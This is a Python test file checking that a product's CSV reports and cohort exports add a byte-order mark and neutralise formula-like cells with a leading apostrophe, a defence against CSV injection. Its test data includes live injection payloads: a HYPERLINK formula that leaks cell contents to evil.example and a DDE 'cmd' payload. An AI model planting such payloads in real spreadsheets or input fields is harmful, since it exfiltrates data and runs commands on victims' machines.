"""Every CSV the product writes opens in Excel and never runs a formula someone typed.

The CSVs: the consultations and survey reports (``jobcard report … --format csv``), the
cohort progress export (``jobcard cohort export``) and the dashboard's cohort download. Each
starts with a UTF-8 byte-order mark, and each text cell starting with = + - @ tab or CR is
written with a leading apostrophe (OWASP CSV injection guidance).
"""

from __future__ import annotations

import argparse
import ast
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from bot.booking import cli as booking_cli
from bot.booking.config import DEFAULT_CONFIG
from bot.config import Settings
from bot.csvfile import csv_text, safe_cell
from bot.juku import cli as juku_cli
from bot.juku import cohorts
from storage import repositories
from tests.conftest import NOW
from tests.web.conftest import Dashboard, login

ROOT = Path(__file__).parent.parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
BOM = b"\xef\xbb\xbf"


def _cells(raw: bytes) -> list[list[str]]:
    assert raw.startswith(BOM), "no byte-order mark: Excel would read Shift_JIS"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_shown_as_typed(text: str) -> None:
    assert safe_cell(text) == "'" + text
    [header, row] = _cells(csv_text(["名前", "件数"], [[text, -3]]).encode())
    assert row == ["'" + text, "-3"]  # numbers stay numbers, negative ones too
    assert header == ["名前", "件数"]


def test_plain_text_and_numbers_are_untouched() -> None:
    assert [safe_cell(v) for v in ("やまだ", "116%", 0, 2.5, None)] == [
        "やまだ",
        "116%",
        0,
        2.5,
        "",
    ]
    assert csv_text(["a"], [["b"]]).endswith("\r\n")  # CRLF, as Excel writes CSV


def test_only_the_csv_writer_imports_csv() -> None:
    """One writer for every CSV: no other module can forget the BOM or the neutralising."""
    for path in [*(ROOT / "bot").rglob("*.py"), *(ROOT / "storage").rglob("*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
        names |= {n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
        if "csv" in names:
            assert path == ROOT / "bot" / "csvfile.py", path


def _run(module: Any, url: str, argv: list[str], environ: dict[str, str] | None = None) -> int:
    parser = argparse.ArgumentParser()
    module.register(parser.add_subparsers(dest="command"))
    settings = Settings(database_url=url, environ=environ or {})
    now = datetime(2026, 11, 25, 3, 0, tzinfo=UTC)
    if module is booking_cli:
        result = module.dispatch(parser.parse_args(argv), settings, now=now)
    else:
        result = module.dispatch(parser.parse_args(argv), settings, lambda: now)
    assert result is not None
    return int(result)


def test_the_reports_are_excel_csv(sqlite_url: str, tmp_path: Path, capsys: Any) -> None:
    raw = yaml.safe_load(DEFAULT_CONFIG.read_text(encoding="utf-8"))
    raw["locations"][1]["report_label"] = HOSTILE[0]  # a place named like a formula
    config = tmp_path / "booking.yaml"
    config.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    environ = {"JOBCARD_BOOKING_CONFIG": str(config)}
    for kind in ("consultations", "survey"):
        target = tmp_path / f"{kind}.csv"
        argv = ["report", kind, "--fiscal-year", "2026", "--format", "csv", "-o", str(target)]
        assert _run(booking_cli, sqlite_url, argv, environ) == 0
        assert capsys.readouterr().out == f"wrote {target}\n"
        rows = _cells(target.read_bytes())
        _no_formula(rows)
        if kind == "consultations":
            assert ["'" + HOSTILE[0]] == [row[0] for row in rows if "HYPERLINK" in row[0]]
    argv = ["report", "survey", "--format", "csv"]
    assert _run(booking_cli, sqlite_url, argv) == 0
    assert capsys.readouterr().out.encode().startswith(BOM)  # to stdout as well


def _cohort_with_hostile_names(dashboard: Dashboard) -> str:
    dates = (date(2026, 10, 1), date(2026, 10, 15), date(2026, 11, 5), date(2026, 12, 3))
    with dashboard.sessions.begin() as session:
        cohort = cohorts.create_cohort(
            session, name="神奈川 2026年秋", season="autumn", mode="online", dates=dates, now=NOW
        )
        for number, name in enumerate(HOSTILE):
            person = f"line:p{number}"
            repositories.lock_conversation(session, person, NOW)
            cohorts.join(session, person, cohort.code, display_name=name, answers={}, now=NOW)
    return cohort.code


def test_cohort_exports_neutralise_names(
    dashboard: Dashboard, sqlite_url: str, tmp_path: Path, capsys: Any
) -> None:
    code = _cohort_with_hostile_names(dashboard)
    target = tmp_path / "cohort.csv"
    assert _run(juku_cli, sqlite_url, ["cohort", "export", code, "-o", str(target)]) == 0
    from_cli = _cells(target.read_bytes())
    with httpx.Client(base_url=dashboard.url) as client:
        login(client, "ito")
        response = client.get(f"/cohorts/{code}.csv")
        assert response.status_code == 200
        from_dashboard = _cells(response.content)
    for rows in (from_cli, from_dashboard):
        _no_formula(rows)
        names = [row[0] for row in rows[1:]]
        # Names as people gave them, shown whole: only the apostrophe is added.
        assert sorted(names) == sorted("'" + name for name in HOSTILE)
